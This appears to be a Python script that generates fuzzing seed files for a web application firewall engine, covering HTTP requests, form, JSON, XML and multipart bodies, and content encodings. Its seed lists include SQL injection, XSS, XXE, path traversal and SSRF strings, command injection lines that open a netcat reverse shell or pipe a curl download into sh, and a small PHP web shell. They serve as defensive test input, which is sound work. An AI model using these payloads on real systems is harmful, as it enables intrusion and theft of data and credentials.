#!/usr/bin/env python3
"""Writes the seed corpora under fuzz/seeds/<target>/ (hand-made examples of
each grammar). Run it again after editing; the files are committed.

Most seeds start with a selector byte the target reads first (see
crates/wafer-engine/src/fuzzing.rs for what each bit picks)."""
import gzip, os, shutil, subprocess, zlib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "seeds")
seeds = {}

def add(target, data):
    if isinstance(data, str):
        data = data.encode()
    seeds.setdefault(target, []).append(data)

# --- raw HTTP/1.x requests, as `wafer check` reads them from stdin
for r in [
    "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /search?q=shoes&page=2 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
    "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 19\r\n\r\nuser=bob&pass=hunter2",
    "POST /api HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n7\r\n{\"a\":1}\r\n3;ext=1\r\n   \r\n0\r\n\r\n",
    "POST /x HTTP/1.0\r\nContent-Length: 003\r\n\r\nabcdef",
    "PUT /f HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999999\r\n\r\nxx",
    "GET /a%2e%2e/%c0%af?x=1 HTTP/1.1\r\nHost: a\r\nCookie: s=1; t=%27\r\nX-A:\r\n\r\n",
    "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\nffffffffffffffffff\r\nx\r\n",
    "GET / HTTP/1.1\nHost: a\n\n",
]:
    add("raw_request", r)

# --- form bodies
for b in ["a=1&b=2", "name=J%C3%B6rg+M%FCller&x=%", "&&=&a&=b&%zz=%2", "q=1%27%20or%201%3D1--",
          "a[]=1&a[]=2&m[k]=v", "x=" + "%41" * 20, "k=v;k2=v2&%u0041=%u00e9"]:
    add("urlencoded", b)

# --- JSON (selector '0' whole body, '1' a prefix)
for j in ['{"a":1,"b":[true,false,null],"c":{"d":"e"}}', '[1,2.5e10,-0,"\\u00e9\\ud83d\\ude00"]',
          '{"q":"1\' union select 1--"}', '"str"', '{"a":{"b":{"c":{"d":{"e":{"f":{"g":{"h":{"i":1}}}}}}}}}',
          '{"k":"\\x41","bad":}', '{"a":[1,2', '{"a" : "b" , "a" : "c"}', '  \ufeff{}  ']:
    add("json", "0" + j)
    add("json", "1" + j)

# --- XML (selector as for JSON)
for x in ['<?xml version="1.0"?><r a="1"><u>bob</u><p><![CDATA[<x>]]></p></r>',
          '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
          '<soap:Envelope xmlns:soap="s"><soap:Body><m:q xmlns:m="m">1 or 1=1</m:q></soap:Body></soap:Envelope>',
          '<a><b><c><d><e><f><g><h><i><j>deep</j></i></h></g></f></e></d></c></b></a>',
          '<r><!-- c --><?pi x?>t&amp;&#60;&#x3c;&lt;</r>', '<r a=unquoted></s>', '<r><x>']:
    add("xml", "0" + x)
    add("xml", "1" + x)

# --- multipart: first line the Content-Type, then the body
mp = ("multipart/form-data; boundary=XyZ\n"
      "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nvalue\r\n"
      "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\nContent-Type: image/png\r\n\r\n<?php echo 1; ?>\r\n"
      "--XyZ--\r\n")
add("multipart", mp)
add("multipart", 'multipart/form-data; boundary="q q"\n--q q\r\nContent-Disposition: form-data; name=x; filename*=UTF-8\'\'%e2%82%ac.txt\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n--q q--')
add("multipart", "multipart/mixed; boundary=b\n--b\nno-crlf: x\n\nbody\n--b")
add("multipart", "multipart/form-data\n--x\r\n\r\n")
add("multipart", "multipart/form-data; boundary=a; charset=ibm037\n--a\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-16\r\n--a\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\nv\r\n--a--\r\n")

# --- decoders
for d in ["%2527%20or%201=1", "%u0027%uFF1C", "&lt;script&gt;&#x61;&#97&amp;lt;&nbsp;", "\\x3cscript\\u003e\\u{1F600}\\101\\n",
          "/a/./b/../../c//d\\e%2f..;/f", "SELECT/**/1--x\n#y\n<!-- z -->", "%c0%ae%c0%ae%c0%af", "cm\"d\" /c ^d^i^r,;x",
          "dW5pb24gc2VsZWN0IDEsMiwz", "İİẞΣ\u0000\u0000x", "&#0;%00\\0"]:
    add("decode", d)
add("decode", b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\xed\xa0\x80\xff")

# --- content codings: byte 0 picks the codings (2 bits each: gzip, deflate, br, zstd),
# byte 1 the number of layers (top 2 bits) and the chunk size (low 6)
text = b"user=alice&comment=" + b"hello world " * 20
def zstd(data):
    return subprocess.run(["zstd", "-q", "-c"], input=data, capture_output=True, check=True).stdout
add("coding", bytes([0, 0x3f]) + gzip.compress(text))
add("coding", bytes([0, 0x00]) + gzip.compress(b"a") + gzip.compress(b"b"))
add("coding", bytes([1, 0x07]) + zlib.compress(text))
raw = zlib.compressobj(wbits=-15); add("coding", bytes([1, 0x10]) + raw.compress(text) + raw.flush())
add("coding", bytes([3, 0x20]) + zstd(text))
add("coding", bytes([3 | (0 << 2), 0x40 | 0x3f]) + gzip.compress(zstd(text)))  # zstd, then gzip
# Brotli: a stream of one uncompressed meta-block holding "hi", then the last empty one.
add("coding", bytes([2, 0x3f]) + bytes([0x0b, 0x00, 0x80, 0x68, 0x69, 0x03]))
add("coding", bytes([2, 0x3f, 0x06]))
add("coding", bytes([0, 0x3f]) + gzip.compress(b"\0" * 5000))
add("coding", bytes([0, 0x01]) + gzip.compress(text)[:-3])

# --- streaming: byte 0 picks the kind (low 3 bits: form, json, multipart, xml, text, opaque)
# and the chunk size (bits 3-4), then a Content-Type line, then the body
def st(kind, chunk, ct, body):
    add("stream", bytes([kind | (chunk << 3)]) + ct.encode() + b"\n" + (body.encode() if isinstance(body, str) else body))
st(0, 1, "application/x-www-form-urlencoded", "a=1&b=" + "x" * 300 + "&c=%27")
st(1, 2, "application/json", '{"a":"b","c":[1,2,3]}')
st(2, 0, "multipart/form-data; boundary=XyZ", mp.split("\n", 1)[1])
st(3, 2, "text/xml", "<r><a>1</a></r>")
st(4, 3, "text/plain", "plain text ' or 1=1 --")
st(5, 1, "application/octet-stream", b"\x89PNG\r\n\x1a\n\x00\x00a=1&b=<script>")
st(5, 2, "application/grpc", b"\x00\x00\x00\x00\x10\x0a\x0eunion select 1")

# --- value lexers: byte 0 picks the part (low 3 bits), header name (bit 3), paranoia (bits 4-5)
values = {
    "sqli": ["1' OR '1'='1", "1 union all select null,password from users--", "1;drop table t", "admin'/**/--",
             "x' and sleep(5)#", "1) or benchmark(1e7,md5(1))", "It's O'Reilly and son", "SELECT `a` FROM \"b\" WHERE c=0x41",
             "1 AND 1=1 LIMIT 1 OFFSET 2", "$$x$$ || E'\\x41' :: text", "@@version/*!50000union*/"],
    "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert`1`", "<svg/onload=confirm(1)>",
            "\"><a href=\"jav&#x09;ascript:x\">", "<div style=\"background:url(javascript:x)\">", "x=`${a}`;eval('a'+'b')",
            "<iframe srcdoc='&lt;script&gt;'>", "a < b and c > d", "<math><mi xlink:href=data:x,1>", "{{constructor.constructor('1')()}}"],
    "cmdi": [";cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(id)", "`whoami`", "a && curl http://x/s.sh | sh",
             "c''at /et''c/pa''sswd", "${IFS}ls${IFS}-la", "cmd.exe /c dir", "foo; echo \"bar\" > /tmp/x", "a\nid", "bash -c {echo,aGk=}|{base64,-d}|bash"],
    "detect": ["../../etc/passwd", "..%2f..%2fwin.ini", "http://169.254.169.254/latest/meta-data", "gopher://127.0.0.1:6379/_x",
               "http://0x7f000001/", "file:///etc/shadow", "php://filter/convert.base64-encode/resource=x", "C:\\Windows\\system32",
               "hello world", "a\x00b\x01", "%00"],
}
for target, vs in values.items():
    for i, v in enumerate(vs):
        add(target, bytes([i & 0x3f]) + v.encode())

# --- whole transactions: byte 0 picks the chunk size (bits 3-7) and, when the rest is not an
# HTTP request, the Content-Type of a POST with the rest as body (bits 0-2)
for r in seeds["raw_request"][:5]:
    add("transaction", b"\x08" + r)
add("transaction", b"\x10POST /up?id=1 HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=XyZ\r\nContent-Length: 200\r\n\r\n" + mp.split("\n", 1)[1].encode())
add("transaction", b"\x18POST /j HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: 1\r\n\r\n" + gzip.compress(b'{"q":"1 union select password from users"}'))
add("transaction", b"\x00a=1&b=%3Cscript%3Ealert(1)%3C/script%3E")
add("transaction", b"\x21{\"a\":[1,2,{\"b\":\"../../etc/passwd\"}]}")
add("transaction", b"\x2a--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n;cat /etc/passwd\r\n--b--\r\n")
add("transaction", b"\x33<r><q>1' or '1'='1</q></r>")
add("transaction", b"\x0c" + b"x" * 70 + b" ' union select 1 -- " + b"y" * 100)
add("transaction", b"\x45\x00\x00\x00\x00\x20\x0a\x1eq=1 union select password from t")
add("transaction", b"\x07\x89PNG\r\n\x1a\n<?php system($_GET[c]); ?>")

if os.path.isdir(ROOT):
    shutil.rmtree(ROOT)
for target, items in seeds.items():
    d = os.path.join(ROOT, target)
    os.makedirs(d)
    for i, data in enumerate(items):
        with open(os.path.join(d, f"seed-{i:02}"), "wb") as f:
            f.write(data)
print({t: len(v) for t, v in seeds.items()})
